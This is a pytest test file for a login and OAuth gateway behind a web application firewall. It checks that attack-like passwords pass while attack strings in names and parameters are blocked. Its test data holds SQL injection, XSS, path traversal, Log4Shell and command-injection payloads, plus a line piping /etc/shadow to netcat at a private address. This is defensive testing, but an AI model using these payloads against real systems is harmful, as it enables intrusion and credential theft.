"""Identity behind the Core Rule Set at level 1, enforcing: what people type and clients send as secrets passes, whatever it
looks like; what they name themselves by is looked at like everything else."""

import base64
import hashlib
import json
import urllib.parse

import gateway
import people
import pytest

COLD_SECONDS = 900  # rules are compiled by the first who needs them
CALLBACK = "https://app.shop.example/callback"
VERIFIER = "v" * 43
# What rules look for, as passwords that somebody may well have.
PASSWORDS = [
    "' or '1'='1' union select password from users--",
    "<script>alert(document.cookie)</script>",
    "../../../../etc/passwd; cat /etc/shadow | nc 10.0.0.1 80",
    "${jndi:ldap://127.0.0.1/a} $(id) `id` %00 <?php system('id')?>",
    'correct "horse" \'battery\' -- staple; DROP TABLE users; /* */',
]  # fmt: skip


@pytest.fixture(scope="module")
def mailbox():
    box = people.Mailbox()
    yield box
    box.stop()


@pytest.fixture(scope="module")
def gate(certificates, mailbox):
    listener = {"name": "public", "address": "127.0.0.1:0", "zone": "external", "tls": certificates.listener_tls("login.shop.example")}
    gate = gateway.Gateway(["http://127.0.0.1:9"], listeners=[listener], waf={"mode": "enforce"},
                           identity={"issuer": people.ISSUER, "mail": mailbox.config, "client_registration": "open", "federation": [
                               {"id": "work", "name": "Work", "issuer": "https://127.0.0.1:9", "client_id": "x", "client_secret": "x"}]})  # fmt: skip
    gate.ca = certificates.ca
    gate.start(within=COLD_SECONDS)
    client = {"client_id": "app", "client_name": "The app", "settings": {
        "token_endpoint_auth_method": "client_secret_basic", "redirect_uris": [CALLBACK], "scope": "openid profile email offline_access",
        "grant_types": ["authorization_code", "refresh_token", "urn:ietf:params:oauth:grant-type:device_code"]}}  # fmt: skip
    made = people.admin(gate, "POST", "/v1/clients", client, 201)
    gate.basic = "Basic " + base64.b64encode(f"app:{made['client_secret']}".encode()).decode()
    yield gate
    gate.discard()


def challenge():
    return base64.urlsafe_b64encode(hashlib.sha256(VERIFIER.encode()).digest()).rstrip(b"=").decode()


def authorize(browser, **more):
    """The page that an authorization request leads to."""
    fields = {"client_id": "app", "redirect_uri": CALLBACK, "response_type": "code", "scope": "openid profile email offline_access",
              "prompt": "consent", "state": "a'b\"c<d>--", "nonce": "1 union select 1", "code_challenge": challenge(),
              "code_challenge_method": "S256", "ui_locales": "en", **more}  # fmt: skip
    return browser.open(people.ISSUER + "/authorize?" + urllib.parse.urlencode(fields))


def api(gate, path, fields, **head):
    back_end = people.Browser(gate, "python-requests/2.31.0", accept="application/json")
    return back_end.post(people.ISSUER + path, fields, {"Authorization": gate.basic, **head})


def whole_flow(gate, name, password):
    browser = people.Browser(gate)
    page = browser.fill(authorize(browser), "password", {"username": name, "password": password})
    answer = browser.fill(page, "decision", button=("decision", "allow"))
    assert answer.is_redirect and answer.location.startswith(CALLBACK), answer
    told = dict(urllib.parse.parse_qsl(urllib.parse.urlsplit(answer.location).query))
    assert told["state"] == "a'b\"c<d>--" and told["iss"] == people.ISSUER, told
    redeemed = api(gate, "/token", {"grant_type": "authorization_code", "code": told["code"], "redirect_uri": CALLBACK, "code_verifier": VERIFIER})
    assert redeemed.status == 200, redeemed
    return browser, redeemed.json()


@pytest.mark.parametrize("password", PASSWORDS, ids=range(len(PASSWORDS)))
def test_the_code_flow_with_any_password(gate, password):
    """Login, consent, code, refresh, userinfo, introspection, revocation."""
    name = f"ada{PASSWORDS.index(password)}"
    people.make_user(gate, name, password=password)
    _, tokens = whole_flow(gate, name, password)
    refreshed = api(gate, "/token", {"grant_type": "refresh_token", "refresh_token": tokens["refresh_token"]})
    assert refreshed.status == 200, refreshed
    who = people.Browser(gate).get(people.ISSUER + "/userinfo", (), {"Authorization": f"Bearer {refreshed.json()['access_token']}"})
    assert who.status == 200 and who.json()["preferred_username"] == name, who
    seen = api(gate, "/introspect", {"token": refreshed.json()["access_token"]})
    assert seen.status == 200 and seen.json()["active"], seen
    assert api(gate, "/revoke", {"token": refreshed.json()["refresh_token"]}).status == 200


@pytest.mark.parametrize("name", ["' or '1'='1' --", "<script>alert(1)</script>", "1; select pg_sleep(10)--", "../../../etc/passwd"])
def test_an_attack_in_the_name(gate, name):
    """A name is no secret: 403, and the rules' finding is in the record."""
    browser = people.Browser(gate)
    answer = browser.sign_in(name, "whatever it is")
    assert answer.status == 403, answer
    record = gate.record(request_id=answer.header("x-request-id"))
    assert record["status"] == 403 and record["reason"].startswith("waf."), record


def test_an_attack_beside_the_form(gate):
    """Neither a parameter that no form has, nor the query, nor a field hides behind what is let through."""
    browser = people.Browser(gate)
    page = browser.open("/login")
    form = people.form_with(page, "password")
    answer = browser.submit(form, {"username": "ada0", "password": "x", "q": "' union select password from users--"})
    assert answer.status == 403, answer
    assert browser.get(people.ISSUER + "/login?q=<script>alert(1)</script>").status == 403
    assert browser.get(people.ISSUER + "/authorize", {"scope": "openid ' union select password from users--"}).status == 403


def test_a_wrong_password_is_no_attack(gate):
    people.make_user(gate, "eve")
    browser = people.Browser(gate)
    page = browser.sign_in("eve", PASSWORDS[0])
    assert people.place_of(page) == "/login" and page.status == 400, page


def test_the_device_flow(gate):
    people.make_user(gate, "dora", password=PASSWORDS[1])
    begun = api(gate, "/device_authorization", {"scope": "openid profile"})
    assert begun.status == 200, begun
    browser = people.Browser(gate)
    page = browser.sign_in("dora", PASSWORDS[1])
    page = browser.open(begun.json()["verification_uri"])
    page = browser.fill(page, "user_code", {"user_code": begun.json()["user_code"]})
    page = browser.fill(page, "decision", button=("decision", "allow"))
    assert page.status == 200, page
    done = api(gate, "/token", {"grant_type": "urn:ietf:params:oauth:grant-type:device_code", "device_code": begun.json()["device_code"]})
    assert done.status == 200 and done.json()["access_token"], done


def test_denial(gate):
    people.make_user(gate, "nora")
    browser = people.Browser(gate)
    page = browser.fill(authorize(browser), "password", {"username": "nora", "password": people.PASSWORD})
    answer = browser.fill(page, "decision", button=("decision", "deny"))
    assert answer.is_redirect and "error=access_denied" in answer.location, answer


def test_a_forgotten_password(gate, mailbox):
    """The link, and a new password that looks like an attack."""
    people.make_user(gate, "rita")
    browser = people.Browser(gate)
    browser.fill(browser.open("/reset"), "username", {"username": "rita"})
    link = mailbox.link("Choose a new password", "rita@shop.example")
    assert browser.fill(browser.open(link), "password", {"password": PASSWORDS[2]}).status == 200
    again = people.Browser(gate)
    again.sign_in("rita", PASSWORDS[2])
    assert people.is_signed_in(again)


def test_the_account(gate):
    """Every page of it, an authenticator, another password."""
    people.make_user(gate, "olga")
    browser = people.Browser(gate)
    browser.sign_in("olga")
    for path in ("", "/profile", "/password", "/factors", "/sessions", "/applications"):
        assert browser.open("/account" + path).status == 200, path
    page = browser.fill(browser.open("/account/password"), "password", {"password": PASSWORDS[3]})
    assert page.status == 200 and people.place_of(page) == "/account/password", page
    page = browser.fill(browser.open("/account/profile"), "save", {"name": "Olga O'Brien-Müller", "locale": "de"}, ("save", "profile"))
    assert page.status == 200 and people.admin(gate, "GET", "/v1/users/olga")["name"] == "Olga O'Brien-Müller", page
    people.add_totp(browser, "Olga's phone")
    assert browser.open("/logout").status == 200


def test_pushed_requests(gate):
    """What is long and full of URLs in a form's body: RFC 9126."""
    fields = {"client_id": "app", "redirect_uri": CALLBACK, "response_type": "code", "scope": "openid", "state": PASSWORDS[0],
              "code_challenge": challenge(), "code_challenge_method": "S256", "nonce": PASSWORDS[1],
              "claims": json.dumps({"userinfo": {"email": None}, "id_token": {"auth_time": {"essential": True}}})}  # fmt: skip
    pushed = api(gate, "/par", fields)
    assert pushed.status == 201, pushed
    browser = people.Browser(gate)
    page = browser.open(people.ISSUER + "/authorize?" + urllib.parse.urlencode({"client_id": "app", "request_uri": pushed.json()["request_uri"]}))
    assert people.form_with(page, "password"), page


def test_what_an_outside_provider_answers(gate):
    """It is for the provider's code to judge, here as the answer of no login: 400, and no rule before it."""
    told = {"code": "4/0AX4XfWh--' or 1=1;<x>", "state": "a'b\"c<d>--", "iss": "http://10.0.0.1:8443/realms/x?",
            "error_description": "select * from users; <script>alert(1)</script>", "scope": "email openid https://www.example.com/auth/email",
            "session_state": "9b7e-1", "authuser": "0", "hd": "example.com", "prompt": "none"}  # fmt: skip
    answer = people.Browser(gate).get(people.ISSUER + "/federation/work/callback", told)
    assert answer.status == 400, answer


@pytest.mark.parametrize("uri", ["https://app.example/cb?tenant=a", "http://127.0.0.1/cb", "http://[::1]:8080/cb", "com.example.app:/cb"])
def test_a_client_registers_itself(gate, uri):
    metadata = {"redirect_uris": [uri], "token_endpoint_auth_method": "none", "client_name": "An app", "client_uri": "https://app.example/",
                "grant_types": ["authorization_code", "refresh_token"], "response_types": ["code"], "scope": "openid email"}  # fmt: skip
    answer = people.Browser(gate, "python-requests/2.31.0", accept="application/json").send(
        "POST", people.ISSUER + "/register", json.dumps(metadata).encode(), {"Content-Type": "application/json"})
    assert answer.status == 201, answer
